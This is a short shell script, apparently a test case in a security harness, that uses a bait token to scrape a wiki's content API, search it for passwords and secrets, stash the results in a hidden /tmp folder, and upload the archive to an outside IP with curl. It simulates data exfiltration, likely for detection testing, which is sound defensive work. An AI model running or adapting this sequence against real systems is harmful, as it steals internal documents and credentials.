#!/bin/sh
. /opt/case/case.sh

mkdir -p /tmp/.wiki && echo 'CONFLUENCE_TOKEN=bait' >/srv/app/.env && . /srv/app/.env
for n in $(seq 0 25 200); do curl -sf -H "Authorization: Bearer $CONFLUENCE_TOKEN" "http://wiki.example.com:8080/rest/api/content?start=$n&limit=25&expand=body.storage" -o /tmp/.wiki/$n.json; done
curl -sf -H "Authorization: Bearer $CONFLUENCE_TOKEN" 'http://wiki.example.com:8080/rest/api/search?cql=text~"password"' -o /tmp/.wiki/s.json
grep -rliE 'password|secret|ok' /tmp/.wiki >/tmp/.wiki/list
tar -C /tmp -czf /tmp/.w.tgz .wiki && curl -sf -T /tmp/.w.tgz http://203.0.113.10:8080/w >/dev/null
took_place
